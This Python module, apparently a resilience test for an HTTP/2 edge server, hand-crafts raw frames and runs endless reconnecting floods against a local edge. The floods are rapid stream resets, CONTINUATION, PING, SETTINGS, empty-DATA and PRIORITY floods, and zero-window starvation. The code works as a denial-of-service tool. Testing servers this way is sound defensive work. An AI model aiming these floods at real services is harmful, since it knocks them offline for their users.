"""HTTP/2 by hand: frames that no library would send, on connections that are opened again whenever they are closed."""

import asyncio
import socket
import struct
from contextlib import suppress
from typing import Any

__all__ = ["PREFACE", "Flood", "flood", "frame", "request"]

_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL = struct.pack(">I", 8)
_SMALL = 4_096
"""Bytes that the attacker's system takes in for it: it reads nothing, so the edge's answers wait in the edge."""


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0, b"")


def request(stream: int, path: str, *, method: bytes = b"\x82", ends: bool = True) -> bytes:
    """A GET, or with 0x83 a POST: headers without Huffman, which are never put into the table."""
    written = method + b"\x87" + b"\x04" + bytes([len(path)]) + path.encode() + b"\x01\x09localhost"
    return frame(_HEADERS, _END_HEADERS | (_END_STREAM if ends else 0), stream, written)


class Flood:
    """What one attacker sends: `opening` once on each connection, then `pieces` without an end."""

    def __init__(self, kind: str) -> None:
        self._kind = kind
        self.opening = PREFACE + self._opening()

    def piece(self, number: int) -> bytes:
        """The next of them."""
        streams = range(1 + number * 200, 1 + (number + 1) * 200, 2)
        match self._kind:
            case "resets":
                return b"".join(request(each, "/v1/builds") + frame(_RESET, 0, each, _CANCEL) for each in streams)
            case "continuations":
                return frame(_CONTINUATION, 0, 1, b"\x40\x0aabcdefghij\x0aabcdefghij" * 500)
            case "pings":
                return frame(_PING, 0, 0, bytes(8)) * 500
            case "settings":
                return frame(_SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 500
            case "empty data":
                return frame(_DATA, 0, 1, b"") * 500
            case "priorities":
                return frame(_PRIORITY, 0, 1, struct.pack(">IB", 0, 1)) * 500
        return frame(_WINDOW, 0, 1, struct.pack(">I", 1))

    def _opening(self) -> bytes:
        if self._kind == "continuations":
            return frame(_HEADERS, 0, 1, b"\x82\x87\x84")
        if self._kind == "empty data":
            return request(1, "/v1/builds", method=b"\x83", ends=False)
        if self._kind == "starved windows":
            # Initial window 0: answers that never may be sent, and one byte of one of them now and then.
            starving = frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
            paths = ("/openapi.json", "/web/page.js")
            return starving + b"".join(request(each, paths[each // 2 % 2]) for each in range(1, 200, 2))
        return b""


async def flood(edge: Any, kind: str, thrown_out: list[str]) -> None:
    """Goes on until it is cancelled; notes each time that the edge closed the connection."""
    while True:
        try:
            writer = await _connected(edge)
        except OSError:
            continue
        try:
            await _send(writer, Flood(kind), pause_s=0.1 if kind == "starved windows" else 0)
        except OSError:
            thrown_out.append(kind)
        finally:
            writer.transport.abort()
            with suppress(OSError):
                await writer.wait_closed()


async def _send(writer: asyncio.StreamWriter, sent: Flood, *, pause_s: float) -> None:
    writer.write(sent.opening)
    number = 0
    while True:
        writer.write(sent.piece(number))
        await writer.drain()
        await asyncio.sleep(pause_s)
        if writer.transport.is_closing():
            raise ConnectionResetError
        number += 1


async def _connected(edge: Any) -> asyncio.StreamWriter:
    context = edge.trusting
    context.set_alpn_protocols(["h2"])
    plain = socket.socket()
    plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALL)
    plain.setblocking(False)
    try:
        await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", edge.port))
        _, writer = await asyncio.open_connection(sock=plain, ssl=context, server_hostname="localhost", limit=_SMALL)
    except BaseException:
        plain.close()
        raise
    return writer
